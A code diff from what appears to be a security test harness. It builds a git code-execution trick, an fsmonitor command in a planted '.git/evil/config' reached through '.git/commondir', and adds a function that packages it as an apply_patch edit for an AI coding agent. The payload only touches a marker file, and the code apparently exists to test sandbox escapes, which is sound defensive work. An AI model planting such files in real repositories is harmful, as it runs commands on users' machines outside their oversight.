@@ -16,8 +16,8 @@ def files(marker: Path) -> dict[str, str]:
     config = f"[core]\n\trepositoryformatversion = 0\n\tfsmonitor = touch {marker}\n"
     return {
         ".git/evil/config": config,
-        ".git/evil/objects/.keep": "",
-        ".git/evil/refs/.keep": "",
+        ".git/evil/objects/.keep": "\n",
+        ".git/evil/refs/.keep": "\n",
         ".git/commondir": "evil\n",
     }
 
@@ -28,9 +28,18 @@ def command(marker: Path) -> str:
     steps += [
         f"printf '%s' '{content}' > {rel}"
         for rel, content in files(marker).items()
-        if content and not rel.endswith(".keep")
+        if not rel.endswith(".keep")
     ]
     return " && ".join(steps)
+
+
+def patch(project: Path, marker: Path) -> str:
+    """The attack as one `apply_patch` patch (codex's edit tool) adding each file."""
+    added = "".join(
+        f"*** Add File: {project / rel}\n" + "".join(f"+{line}\n" for line in text.splitlines())
+        for rel, text in files(marker).items()
+    )
+    return f"*** Begin Patch\n{added}*** End Patch\n"
 
 
 def users_git_status_runs_it(project: Path, marker: Path) -> bool:
